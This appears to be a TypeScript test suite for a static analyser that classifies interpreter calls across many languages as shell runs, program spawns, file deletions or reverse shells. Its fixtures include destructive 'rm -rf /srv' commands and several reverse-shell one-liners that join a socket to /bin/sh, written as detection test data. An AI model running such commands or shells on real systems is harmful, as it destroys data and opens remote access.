// Tests by class over the interpreter calls that run programs or delete files
// (src/facts/interpreters.ts): each row is a documented standard-library call (Python's os,
// subprocess, commands, pty, shutil; Node's child_process and fs; PHP's program execution
// functions; Lua's os/io; Ruby's Kernel, IO, Open3, Process, FileUtils, File, Dir; Perl's
// File::Path and unlink; Haskell's System.Process; Java's Runtime; Bun; PowerShell's
// Remove-Item) with a literal argument, and the expected result is what the call runs or deletes.
import { codeEffects } from "../src/facts/interpreters.js";

describe("calls that run a shell command line", () => {
  const lines = [
    'os.system("rm /srv/x")',
    'os.popen("rm /srv/x")',
    'subprocess.run("rm /srv/x", shell=True)',
    'subprocess.call("rm /srv/x", shell=True)',
    'subprocess.check_output("rm /srv/x", shell=True)',
    'subprocess.Popen("rm /srv/x", shell=True)',
    'check_output("rm /srv/x", shell=True)',
    'commands.getoutput("rm /srv/x")',
    'commands.getstatusoutput("rm /srv/x")',
    'getoutput("rm /srv/x")',
    'getstatusoutput("rm /srv/x")',
    'child_process.execSync("rm /srv/x")',
    'require("child_process").execSync("rm /srv/x")',
    'execSync("rm /srv/x")',
    'system("rm /srv/x")',
    'shell_exec("rm /srv/x")',
    'passthru("rm /srv/x")',
    'proc_open("rm /srv/x", $d, $p)',
    'os.execute("rm /srv/x")',
    'io.popen("rm /srv/x")',
    'IO.popen("rm /srv/x")',
    'Open3.capture2("rm /srv/x")',
    'Kernel.system("rm /srv/x")',
    'Process.spawn("rm /srv/x")',
    'Runtime.getRuntime().exec("rm /srv/x")',
    'system "rm /srv/x"',
    'exec "rm /srv/x"',
    'callCommand "rm /srv/x"',
    'spawnCommand "rm /srv/x"',
    "`rm /srv/x`",
  ];
  it("runs the literal line", () => {
    const wrong = lines.filter(
      (c) => JSON.stringify(codeEffects(c).shell) !== JSON.stringify(["rm /srv/x"]),
    );
    expect(wrong).toEqual([]);
  });

  it("pty.spawn runs its program", () => {
    expect(codeEffects('pty.spawn("/bin/sh")').shell).toEqual(["/bin/sh"]);
  });

  it("fails closed on a command built at run time", () => {
    for (const c of ["os.system(cmd)", 'os.system("rm " + p)', 'system("rm ${p}")'])
      expect([c, codeEffects(c).dynamic.length]).toEqual([c, 1]);
    expect(codeEffects('Deno.run({cmd: ["rm", p]})').dynamic).toHaveLength(1);
  });
});

describe("calls that spawn an argument vector", () => {
  it.each([
    'subprocess.run(["rm", "/srv/x"])',
    'check_call(["rm", "/srv/x"])',
    'os.execvp("rm", ["rm", "/srv/x"])',
    'os.execl("/bin/rm", "rm", "/srv/x")',
    'execFileSync("rm", ["/srv/x"])',
    'execFile("rm", ["/srv/x"])',
    'spawnSync("rm", ["/srv/x"])',
    'spawn("rm", ["/srv/x"])',
    'Bun.spawn(["rm", "/srv/x"])',
    'Bun.spawnSync(["rm", "/srv/x"])',
  ])("%s", (c) => {
    expect(codeEffects(c).spawn).toEqual([["rm", "/srv/x"]]);
  });
});

describe("calls that delete a path", () => {
  const calls =
    "shutil.rmtree os.remove os.unlink os.rmdir os.removedirs fs.rmSync fs.rm fs.unlinkSync " +
    "fs.unlink fs.rmdirSync fs.rmdir fs.promises.rm fsPromises.rm rimraf rimraf.sync rmSync " +
    "unlinkSync rmdirSync FileUtils.rm_rf FileUtils.rm_r FileUtils.rm_f FileUtils.rm " +
    "FileUtils.remove_dir FileUtils.remove_entry FileUtils.remove_entry_secure FileUtils.remove " +
    "File.delete Dir.delete unlink rmtree remove_tree rmdir";
  it("with parentheses", () => {
    const wrong = calls
      .split(" ")
      .filter((f) => JSON.stringify(codeEffects(`${f}("/srv/x")`).deletes) !== '["/srv/x"]');
    expect(wrong).toEqual([]);
  });
  it("without (Perl's unlink, PowerShell's Remove-Item)", () => {
    expect(codeEffects('unlink "/srv/x"').deletes).toEqual(["/srv/x"]);
    expect(codeEffects('Remove-Item "/srv/x"').deletes).toEqual(["/srv/x"]);
  });
  it("not a call that only names a path", () => {
    expect(codeEffects('os.path.exists("/srv/x")').deletes).toEqual([]);
    expect(codeEffects('print("/srv/x")').deletes).toEqual([]);
  });
});

describe("a network socket joined to a program is a reverse shell", () => {
  it.each([
    's=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
    'socket.create_connection(("h",1)); os.system("sh")',
    '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");',
    'c=new net.Socket();c.connect(1,"h");require("child_process").spawn("sh",[])',
    'TCPSocket.new("h",1); exec "sh"',
    'use IO::Socket; system("sh")',
    'stream_socket_client("tcp://h:1"); shell_exec("sh")',
  ])("%s", (c) => {
    expect(codeEffects(c).reverseShell).toBe(true);
  });
  it("not a program run without a socket, nor a socket that runs nothing", () => {
    expect(codeEffects('os.system("ls")').reverseShell).toBe(false);
    expect(codeEffects('s=socket.socket();s.connect(("h",1))').reverseShell).toBe(false);
  });
});

// The survivors' "gate gaps" (docs/mutation/survivors.md): a call's arguments kept as documented
// — PHP's popen(command, mode) and pcntl_exec(path, args) (php.net), Perl's piped open
// (perlfunc open, perlipc "Using open() for IPC"), Java's ProcessBuilder(String... command),
// Haskell's System.Process rawSystem/readProcess/callProcess (program, then a list).
describe("calls whose arguments were dropped or misread", () => {
  it.each([
    ['popen("rm -rf /srv", "r")', ["rm -rf /srv"]],
    ['open(my $f, "|-", "rm -rf /srv")', ["rm -rf /srv"]],
    ['open(F, "| rm -rf /srv")', ["rm -rf /srv"]],
    ['open(F, "rm -rf /srv |")', ["rm -rf /srv"]],
  ])("%s runs the line %j", (code, shell) => {
    expect(codeEffects(code).shell).toEqual(shell);
  });

  it.each([
    'pcntl_exec("/bin/rm", ["-rf", "/srv"])',
    'new ProcessBuilder("/bin/rm", "-rf", "/srv").start()',
    'open(my $f, "-|", "/bin/rm", "-rf", "/srv")',
    'rawSystem "/bin/rm" ["-rf", "/srv"]',
    'readProcess "/bin/rm" ["-rf", "/srv"] ""',
    'callProcess "/bin/rm" ["-rf", "/srv"]',
  ])("%s spawns the program with its arguments", (code) => {
    expect(codeEffects(code).spawn).toEqual([["/bin/rm", "-rf", "/srv"]]);
  });

  it.each([
    'open(F, "<", "/srv/f")',
    'open(F, "/srv/f")',
    'open(my $f, ">", "/srv/out")',
    'with open("/srv/f", "r") as f: pass',
  ])("%s (a file open) runs nothing", (code) => {
    const fx = codeEffects(code);
    expect([fx.shell, fx.spawn]).toEqual([[], []]);
  });
});

describe("forms that hid the command (found by the kill tests' review)", () => {
  it("execve/execle keep their literal argv when the environment is a variable", () => {
    expect(codeEffects('os.execve("/bin/rm", ["rm", "-rf", "/srv/x"], env)').spawn).toEqual([
      ["rm", "-rf", "/srv/x"],
    ]);
    expect(codeEffects('os.execle("/bin/rm", "rm", "/srv/x", env)').spawn).toEqual([
      ["rm", "/srv/x"],
    ]);
  });

  it("parentheses around the one argument are not a list", () => {
    expect(codeEffects('os.system(("rm /srv/x"))').shell).toEqual(["rm /srv/x"]);
    expect(codeEffects('os.system((("rm /srv/x")))').shell).toEqual(["rm /srv/x"]);
    // a tuple is the program and its arguments
    expect(codeEffects('subprocess.run(("rm", "/srv/x"))').spawn).toEqual([["rm", "/srv/x"]]);
  });

  it("qx/…/ with an escaped delimiter is one command line", () => {
    expect(codeEffects("qx/rm \\/srv\\/x/").shell).toEqual(["rm /srv/x"]);
    expect(codeEffects("qx{rm /srv/x}").shell).toEqual(["rm /srv/x"]);
  });
});
